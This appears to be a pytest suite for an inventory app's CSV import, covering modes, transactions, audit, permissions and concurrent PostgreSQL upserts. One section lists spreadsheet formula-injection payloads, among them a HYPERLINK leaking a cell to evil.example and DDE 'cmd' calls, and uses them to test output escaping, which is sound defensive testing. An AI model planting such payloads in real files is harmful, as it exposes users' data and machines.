"""Importing into real SQLite and PostgreSQL: modes, one transaction, audit, movements, storage, permissions."""

from __future__ import annotations

import csv
import io
import json
import uuid
from decimal import Decimal

import pytest
import sqlalchemy as sa

import inventory_panel as ip
from inventory_panel.errors import ImportRefusedError, PermissionDeniedError
from inventory_panel.settings import load_settings

HEADER = "item_name,category,quantity,unit_price,description,supplier,location,minimum_stock,sku"

SKU_TAKEN = (
    'SKU is already used by an item in the inventory; to update that item, import with "Add or update by SKU" '
    "(mode upsert)"
)


def items(inv: ip.Inventory) -> list[dict]:
    page = inv.query(sort_by="id", limit=10_000)
    columns = [*HEADER.split(","), "version"]
    return [
        {k: (None if v is None or v != v else v) for k, v in row.items()}
        for row in page.rows[columns].to_dict("records")
    ]


def audit(inv: ip.Inventory, action: str) -> list[dict]:
    return inv.audit_log(action=action, limit=1000).rows.to_dict("records")


def movements(inv: ip.Inventory) -> list[dict]:
    m = inv.t.movements
    with inv.reading() as conn:
        return [dict(r._mapping) for r in conn.execute(sa.select(m).order_by(m.c.id))]


def test_append_imports_valid_rows_exactly_and_reports_the_rest(inv):
    report = inv.import_csv(
        f"{HEADER}\n"
        '  Drill ,Tools,3,9.5,"Cordless, 18 V\nwith case",Acme,Aisle 1,0,DR-1\n'
        "Saw,Tools,-1,abc,,,,,SAW-1\n"
        "Glue,Office,0,0,,,,,\n",
        file_name="items.csv",
    )
    assert (report.rows, report.inserted, report.updated, report.skipped) == (3, 2, 0, 1)
    assert report.errors[["row", "column", "value"]].values.tolist() == [
        [3, "quantity", "-1"],
        [3, "unit_price", "abc"],
    ]
    assert items(inv) == [
        {
            "item_name": "Drill",
            "category": "Tools",
            "quantity": 3,
            "unit_price": Decimal("9.50"),
            "description": "Cordless, 18 V\nwith case",
            "supplier": "Acme",
            "location": "Aisle 1",
            "minimum_stock": 0,
            "sku": "DR-1",
            "version": 1,
        },
        {
            "item_name": "Glue",
            "category": "Office",
            "quantity": 0,
            "unit_price": Decimal("0.00"),
            "description": None,
            "supplier": None,
            "location": None,
            "minimum_stock": None,
            "sku": None,
            "version": 1,
        },
    ]
    stored = inv.get(int(inv.query(search="Drill").rows.id[0]))
    assert stored["created_by"] == stored["updated_by"] == "admin@example.com"
    assert stored["created_at"].tzinfo is not None


def test_money_is_stored_exactly_in_each_backend(inv):
    inv.import_csv(f"{HEADER}\nA,B,1,12.5,,,,,\nC,D,1,9999999999.99,,,,,\n")
    with inv.reading() as conn:
        raw = [
            r[0]
            for r in conn.execute(
                sa.text(
                    f"SELECT unit_price FROM {conn.dialect.identifier_preparer.format_table(inv.t.items)} ORDER BY id"
                )
            )
        ]
    if inv.db.dialect == "sqlite":
        assert raw == [1250, 999999999999]  # integer cents
    else:
        assert raw == [Decimal("12.50"), Decimal("9999999999.99")]


def test_uploading_the_same_file_twice_does_not_double_the_stock(inv):
    data = f"{HEADER}\nDrill,Tools,3,9.5,,,,,DR-1\nSaw,Tools,4,5,,,,,SAW-1\n"
    inv.import_csv(data)
    again = inv.import_csv(data)
    assert (again.inserted, again.skipped) == (0, 2)
    assert set(again.errors["message"]) == {SKU_TAKEN}
    assert inv.summary()["units"] == 7
    upserted = inv.import_csv(data, mode="upsert")
    assert (upserted.inserted, upserted.updated, upserted.unchanged, upserted.skipped) == (0, 0, 2, 0)
    assert upserted.warnings == ["2 rows matched existing items and changed nothing."]
    assert inv.summary()["units"] == 7


def test_an_existing_sku_is_reported_alongside_the_rows_other_problems(inv):
    inv.import_csv(f"{HEADER}\nDrill,Tools,3,9.5,,,,,DR-1\n")
    report = inv.import_csv(f"{HEADER}\nDrill,Tools,-3,9.5,,,,,DR-1\n")
    assert report.errors[["column", "message"]].values.tolist() == [
        ["quantity", "Quantity must be 0 or greater"],
        ["sku", SKU_TAKEN],
    ]


def test_a_sku_repeated_in_the_file_rejects_the_later_rows(inv):
    lines = [HEADER, "A,B,1,1,,,,,S-1", "C,D,1,1,,,,,S-2", "E,F,1,1,,,,,S-1"]
    lines += [f"Item {i},G,1,1,,,,,U-{i}" for i in range(1500)]  # the repeat below lands in a later chunk
    lines += ["H,I,1,1,,,,,S-2"]
    report = inv.import_csv("\n".join(lines) + "\n")
    assert report.inserted == 1502
    assert report.errors[["row", "message"]].values.tolist() == [
        [4, "sku is repeated in this file (first used on row 2)"],
        [1505, "sku is repeated in this file (first used on row 3)"],
    ]


def test_upsert_inserts_unknown_and_updates_known_skus_with_movements_and_audit(inv):
    inv.import_csv(f"{HEADER}\nDrill,Tools,3,9.50,Old text,Acme,Aisle 1,2,DR-1\nSaw,Tools,4,5,,,,,SAW-1\n")
    report = inv.import_csv(
        "sku,item_name,category,quantity,unit_price\n"
        "DR-1,Drill,Tools,10,9.75\n"
        "SAW-1,Saw,Tools,4,5.00\n"
        "NEW-1,Hammer,Tools,1,3\n",
        mode="upsert",
        file_name="update.csv",
    )
    assert (report.inserted, report.updated, report.unchanged, report.skipped) == (1, 1, 1, 0)
    assert report.to_dict()["warnings"] == ["1 row matched existing items and changed nothing."]
    drill, saw, hammer = items(inv)
    # Columns the file does not have keep their values; the version moves on only for the changed item.
    assert drill == {
        "item_name": "Drill",
        "category": "Tools",
        "quantity": 10,
        "unit_price": Decimal("9.75"),
        "description": "Old text",
        "supplier": "Acme",
        "location": "Aisle 1",
        "minimum_stock": 2,
        "sku": "DR-1",
        "version": 2,
    }
    assert saw["version"] == 1 and hammer["sku"] == "NEW-1"
    (move,) = movements(inv)
    assert (move["delta"], move["quantity_after"], move["kind"], move["batch_id"]) == (7, 10, "import", report.batch_id)
    assert "update.csv" in move["reason"]
    (update,) = audit(inv, "update")
    assert json.loads(update["changes"]) == {"quantity": [3, 10], "unit_price": ["9.50", "9.75"]}
    assert update["batch_id"] == report.batch_id
    history = inv.history(int(inv.query(search="DR-1").rows.id[0]))
    assert "stock import" in history["what"].tolist()


def test_upsert_needs_a_sku_in_every_row(inv):
    report = inv.import_csv(f"{HEADER}\nA,B,1,1,,,,,\nC,D,1,1,,,,,S\n", mode="upsert")
    assert (report.inserted, report.skipped) == (1, 1)
    assert report.errors.to_dict("records") == [
        {
            "row": 2,
            "column": "sku",
            "value": "",
            "message": "SKU is required in upsert mode (rows are matched to items by SKU)",
        }
    ]
    with pytest.raises(ImportRefusedError, match="no sku column"):
        inv.import_csv("item_name,category,quantity,unit_price\nA,B,1,1\n", mode="upsert")


def test_upsert_can_clear_optional_fields_the_file_has_but_leaves_them_blank(inv):
    inv.import_csv(f"{HEADER}\nA,B,1,1,Text,Acme,Here,3,S\n")
    report = inv.import_csv(
        "sku,item_name,category,quantity,unit_price,supplier,minimum_stock\nS,A,B,1,1,,\n", mode="upsert"
    )
    assert report.updated == 1
    (item,) = items(inv)
    assert (item["supplier"], item["minimum_stock"], item["description"]) == (None, None, "Text")


def test_atomic_import_with_an_error_writes_nothing(inv):
    report = inv.import_csv(f"{HEADER}\nA,B,1,1,,,,,\nC,D,x,1,,,,,\n", atomic=True)
    assert (report.rows, report.inserted, report.updated, report.skipped) == (2, 0, 0, 1)
    assert report.atomic and not report.ok and report.batch_id is None
    assert "Nothing was imported" in report.warnings[-1]
    assert items(inv) == [] and audit(inv, "import") == []
    ok = inv.import_csv(f"{HEADER}\nA,B,1,1,,,,,\n", atomic=True)
    assert (ok.inserted, ok.skipped) == (1, 0) and len(items(inv)) == 1


def test_dry_run_counts_what_would_happen_and_writes_nothing(inv):
    inv.import_csv(f"{HEADER}\nA,B,1,1,,,,,S-1\n")
    before = inv.change_token()
    data = f"{HEADER}\nA,B,5,1,,,,,S-1\nNew,B,1,1,,,,,S-2\nBad,B,-1,1,,,,,S-3\n"
    report = inv.import_csv(data, mode="upsert", dry_run=True)
    assert (report.rows, report.inserted, report.updated, report.skipped) == (3, 1, 1, 1)
    assert report.to_dict()["dry_run"] is True and report.batch_id is None
    assert inv.change_token() == before and len(items(inv)) == 1 and movements(inv) == []
    atomic = inv.import_csv(data, mode="upsert", dry_run=True, atomic=True)
    assert (atomic.inserted, atomic.updated, atomic.skipped) == (0, 0, 1)


def test_one_audit_entry_per_batch_with_its_counts(inv):
    report = inv.import_csv(f"{HEADER}\nA,B,1,1,,,,,\nC,D,x,1,,,,,\n", file_name="batch.csv")
    (entry,) = audit(inv, "import")
    assert entry["batch_id"] == report.batch_id and entry["actor"] == "admin@example.com"
    assert json.loads(entry["detail"]) == {
        "file": "batch.csv",
        "mode": "append",
        "atomic": False,
        "rows": 2,
        "inserted": 1,
        "updated": 0,
        "unchanged": 0,
        "skipped": 1,
    }
    # The inserted item has its own entry too (tests/integration/test_audit_trail.py checks its contents).
    (add,) = audit(inv, "add")
    assert add["batch_id"] == report.batch_id and add["item_id"] == int(inv.query().rows.id[0])


def big_file(rows: int, tail: str = "") -> str:
    return HEADER + "\n" + "".join(f"Item {i},Cat,{i % 7},{i % 100}.25,,,,,\n" for i in range(rows)) + tail


def test_a_failure_half_way_leaves_nothing_written(inv):
    seen = []

    def progress(stage: str, fraction: float, message: str) -> None:
        seen.append(stage)
        if seen.count("write") == 2:  # the first chunk is in the database (uncommitted) by now
            raise RuntimeError("simulated crash")

    with pytest.raises(RuntimeError, match="simulated crash"):
        inv.import_csv(big_file(3000), progress=progress)
    assert items(inv) == [] and audit(inv, "import") == []
    with pytest.raises(ImportRefusedError, match="never closed"):
        inv.import_csv(big_file(3000, 'X,"unclosed,1,1\n' + "y" * 140_000 + "\n"))
    assert items(inv) == []


def test_progress_runs_through_the_stages_from_0_to_1(inv):
    calls = []
    inv.import_csv(big_file(12_000), progress=lambda stage, fraction, message: calls.append((stage, fraction)))
    stages = [s for s, _ in calls]
    fractions = [f for _, f in calls]
    assert calls[0] == ("parse", 0.0) and calls[-1] == ("write", 1.0)
    assert {"parse", "validate", "write"} <= set(stages) and len(calls) >= 10
    assert fractions == sorted(fractions)


def test_viewers_may_not_import_even_a_dry_run(inv):
    viewer = inv.as_user(ip.auth.User("viewer@example.com", "viewer"))
    for dry_run in (False, True):
        with pytest.raises(PermissionDeniedError):
            viewer.import_csv(f"{HEADER}\nA,B,1,1,,,,,\n", dry_run=dry_run)
    assert items(inv) == []


def test_the_error_file_can_be_fixed_and_uploaded_again(inv):
    report = inv.import_csv("Item Name;Category;Quantity;Unit Price;Colour\nA;B;1;1;red\nC;D;-2;1;blue\nE;F;3\n")
    rejected = list(csv.reader(io.StringIO(report.error_csv()), delimiter=";"))
    assert rejected == [
        ["Item Name", "Category", "Quantity", "Unit Price", "Colour", "error"],
        ["C", "D", "'-2", "1", "blue", "Quantity must be 0 or greater"],  # escaped like an export
        ["E", "F", "3", "", "", "Unit price is required"],
    ]
    fixed = report.error_csv().replace(";'-2;", ";2;").replace("E;F;3;;", "E;F;3;4;")
    again = inv.import_csv(fixed)
    assert (again.inserted, again.skipped) == (2, 0)
    assert again.warnings == ["Unknown columns ignored: Colour"]  # its own ``error`` column is not "unknown"


def test_table_and_schema_names_from_settings_are_quoted(db_url):
    # Mixed case: PostgreSQL folds unquoted names to lower case, so only quoted identifiers find these tables.
    env = {"POSTGRES_SCHEMA": f"StockRoom_{uuid.uuid4().hex[:4]}", "POSTGRES_TABLE": "Items2024"}
    inv = ip.connect(db_url, user="admin@example.com", role="admin", settings=load_settings(env))
    try:
        report = inv.import_csv(f"{HEADER}\nA,B,1,1,,,,,S\n")
        updated = inv.import_csv(f"{HEADER}\nA,B,2,1,,,,,S\n", mode="upsert")
        assert (report.inserted, updated.updated) == (1, 1)
        assert inv.t.items.name == "Items2024" and items(inv)[0]["quantity"] == 2
    finally:
        inv.close()


# -- the error file is formula-escaped like an export, and reads back as the original rows --------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "'=1+1",
]


def test_the_error_file_escapes_hostile_cells_and_reads_back_as_the_original(inv):
    # Each row is rejected for its quantity, so every hostile cell lands in the error file.
    lines = ["item_name,category,quantity,unit_price,description,sku"]
    lines += [f'"{n.replace(chr(34), chr(34) * 2)}",Tools,-1,1,"\t=cmd()",S-{i}' for i, n in enumerate(HOSTILE)]
    report = inv.import_csv("\n".join(lines) + "\n", file_name="hostile.csv")
    assert (report.inserted, report.skipped) == (0, len(HOSTILE))
    rejected = list(csv.DictReader(io.StringIO(report.error_csv())))
    # A cell starting with "'" is text to a spreadsheet already, and the import reads it as the original: kept.
    assert [r["item_name"] for r in rejected] == ["'" + n if n[0] != "'" else n for n in HOSTILE]
    assert {r["description"] for r in rejected} == {"'\t=cmd()"} and {r["quantity"] for r in rejected} == {"'-1"}
    for row in rejected:  # no cell a spreadsheet would run
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
    # Fixed and uploaded again, the rows import exactly as the original cells would have.
    again = inv.import_csv(report.error_csv().replace(",'-1,", ",1,"))
    assert (again.inserted, again.skipped) == (len(HOSTILE), 0)
    stored = {row["sku"]: row for row in items(inv)}
    assert [stored[f"S-{i}"]["item_name"] for i in range(len(HOSTILE))] == [
        n if not n.startswith("'=") else n[1:] for n in HOSTILE
    ]  # "'=1+1" in a file is export's escape of "=1+1"
    assert {row["description"] for row in stored.values()} == {"=cmd()"}  # the original cell, trimmed


# -- concurrent upsert imports on PostgreSQL --------------------------------------------------------------------------

CONCURRENT_IMPORTS = 4


def _upsert_file(n: int, existing: list[str], new: list[str]) -> tuple[str, dict[str, int]]:
    """Import ``n``'s file: every sku (old and new) in its own shuffled order, with quantities of its own."""
    import random

    skus = existing + new
    random.Random(n).shuffle(skus)
    quantities = {sku: 1000 * (n + 1) + i for i, sku in enumerate(skus)}
    lines = ["sku,item_name,category,quantity,unit_price"]
    lines += [f"{sku},Part {sku},Parts,{quantities[sku]},1.00" for sku in skus]
    return "\n".join(lines) + "\n", quantities


@pytest.mark.postgres
def test_concurrent_upsert_imports_of_overlapping_skus_all_succeed_consistently(pg_url, settings):
    import threading

    admin = ip.connect(pg_url, user="admin@example.com", role="admin", settings=settings)
    existing = [f"OLD-{i:05d}" for i in range(3_000)]
    new = [f"NEW-{i:05d}" for i in range(1_500)]  # inserted by whichever import comes first
    seed = admin.import_csv(
        "sku,item_name,category,quantity,unit_price\n" + "".join(f"{s},Part {s},Parts,1,1.00\n" for s in existing)
    )
    files = [_upsert_file(n, existing, new) for n in range(CONCURRENT_IMPORTS)]
    barrier = threading.Barrier(CONCURRENT_IMPORTS)
    results: dict[int, object] = {}

    def run(n: int) -> None:
        inv = ip.connect(pg_url, user=f"importer{n}@example.com", role="editor", settings=settings)
        try:
            barrier.wait()
            results[n] = inv.import_csv(files[n][0], mode="upsert", file_name=f"part{n}.csv")
        except Exception as exc:  # noqa: BLE001 - the test reports every failure below
            results[n] = exc
        finally:
            inv.close()

    threads = [threading.Thread(target=run, args=(n,)) for n in range(CONCURRENT_IMPORTS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=300)
    failures = {n: f"{type(r).__name__}: {r}" for n, r in results.items() if isinstance(r, Exception)}
    assert not failures and len(results) == CONCURRENT_IMPORTS
    reports = list(results.values())
    assert all(r.skipped == 0 and r.rows == len(existing) + len(new) for r in reports)
    assert sum(r.inserted for r in reports) == len(new)  # each new sku inserted once, then updated by the others

    stored = {row["sku"]: row for row in items(admin)}
    assert len(stored) == len(existing) + len(new)
    # Imports took turns: every quantity is that of the import that committed last.
    last = [n for n in range(CONCURRENT_IMPORTS) if all(stored[s]["quantity"] == q for s, q in files[n][1].items())]
    assert len(last) == 1
    # Each item's movements form one unbroken chain from its first quantity to the stored one.
    start = {s: 1 for s in existing}
    with admin.reading() as conn:
        first_add = {
            r.item_id: json.loads(r.changes)["quantity"][1]
            for r in conn.execute(
                sa.select(admin.t.audit).where(
                    admin.t.audit.c.action == "add", admin.t.audit.c.batch_id != seed.batch_id
                )
            )
        }
    by_item: dict[int, list[dict]] = {}
    for move in movements(admin):
        by_item.setdefault(move["item_id"], []).append(move)
    page = admin.query(sort_by="id", limit=10_000).rows
    id_of = {sku: int(i) for sku, i in zip(page["sku"], page["id"], strict=True)}
    assert set(first_add) == {id_of[s] for s in new}  # one add audit row per new item, from its inserting import
    for sku, item_id in id_of.items():
        quantity = start[sku] if sku in start else first_add[item_id]
        for move in by_item.get(item_id, []):
            assert move["quantity_after"] - move["delta"] == quantity, (sku, move)
            quantity = move["quantity_after"]
        assert quantity == stored[sku]["quantity"], sku
    admin.close()


class _Deadlock(Exception):
    """What psycopg2 raises for a deadlock victim: SQLSTATE 40P01."""

    pgcode = "40P01"


def test_a_deadlock_victim_gets_one_clear_line_from_the_cli_not_a_traceback(db_url, tmp_path, monkeypatch, capsys):
    # Imports into one table no longer deadlock each other (test above), but another writer still can: simulate it.
    from inventory_panel import cli
    from inventory_panel.storage.bulk import ItemWriter

    def deadlocked(self, skus, *, full):
        raise sa.exc.OperationalError("SELECT … FOR UPDATE", {}, _Deadlock("deadlock detected\nDETAIL: …"))

    monkeypatch.setattr(ItemWriter, "existing", deadlocked)
    source = tmp_path / "items.csv"
    source.write_text(f"{HEADER}\nA,B,1,1,,,,,S-1\n", encoding="utf-8")
    code = cli.main(
        ["--database-url", db_url, "--user", "admin@example.com", "import", str(source), "--mode", "upsert"]
    )
    err = capsys.readouterr().err
    assert code == 2 and "Traceback" not in err and len(err.strip().splitlines()) == 1
    assert "nothing was imported. Please import the file again." in err
